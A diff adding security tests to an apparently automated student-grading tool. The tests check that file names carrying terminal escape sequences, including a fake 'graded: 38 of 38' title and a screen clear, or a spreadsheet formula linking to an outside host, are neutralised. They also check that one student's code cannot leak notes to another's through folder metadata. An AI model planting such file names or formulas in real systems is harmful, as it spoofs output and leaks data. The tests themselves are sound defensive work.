@@ -248,3 +248,43 @@ def test_a_worker_cannot_stop_the_worker_forked_for_the_next_student(tmp_path):
                                             limits=TEST_LIMITS), batch_run.Progress(io.StringIO()))
     assert totals.grader_errors == 0
     assert json.loads((out / "bob.json").read_text())["score"] == 38
+
+
+@LINUX
+def test_a_file_name_reaches_no_terminal_and_no_spreadsheet_raw(tmp_path, monkeypatch, capsys):
+    # LMS exports keep the name the student gave their file; the id is that name without its extension.
+    folder = tmp_path / "submissions"
+    folder.mkdir()
+    names = ["mallory\x1b]0;graded: 38 of 38\x07\x1b[2J\x1b[31m", '=HYPERLINK("https:example.com?"&A1,"ok")']
+    for name in names:
+        shutil.copy(COURSE / "examples" / "assignment2" / "full_marks.py", folder / f"{name}.py")
+    roster = tmp_path / "roster.csv"
+    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\nAlice,1,1,alice,A\n")
+    monkeypatch.chdir(COURSE)
+    out = tmp_path / "out"
+    main(["batch", "assignment2", str(folder), "--out", str(out), "--jobs", "1", "--roster", str(roster)])
+    printed = capsys.readouterr()
+    assert "\x1b" not in printed.err + printed.out, "a file name's control sequences reached the terminal"
+    with open(out / "grades.csv", newline="") as stream:
+        ids = [row["id"] for row in csv.DictReader(stream)]
+    assert not [cell for cell in ids if cell.startswith(("=", "+", "-", "@"))], f"formulas in grades.csv: {ids}"
+
+
+@LINUX
+def test_a_worker_changes_no_metadata_outside_its_folder(tmp_path):
+    course = tmp_path / "course"
+    for part in ("assignments/assignment2", "reference/assignment2"):
+        shutil.copytree(COURSE / part, course / part)
+    (course / "reference").chmod(0o700)
+    folder = tmp_path / "submissions"
+    folder.mkdir()
+    source = (RED / "leaves_a_note_for_the_next_student.py").read_text()
+    (folder / "alice.py").write_text(source.replace('ROLE = "receive"', 'ROLE = "send"'))
+    (folder / "bob.py").write_text(source)
+    out = tmp_path / "out"
+    run_batch(course, BatchOptions(assignment="assignment2", submissions=folder, out=out, jobs=1, limits=TEST_LIMITS),
+              batch_run.Progress(io.StringIO()))
+    assert (course / "reference").stat().st_mode & 0o777 == 0o700, "student code opened reference/ to every user"
+    bob = json.loads((out / "bob.json").read_text())
+    relu = next(t for t in bob["tests"] if t["name"] == "naive_relu_values")
+    assert relu["status"] != "passed", "a note from alice's worker reached bob's through his folder's attributes"
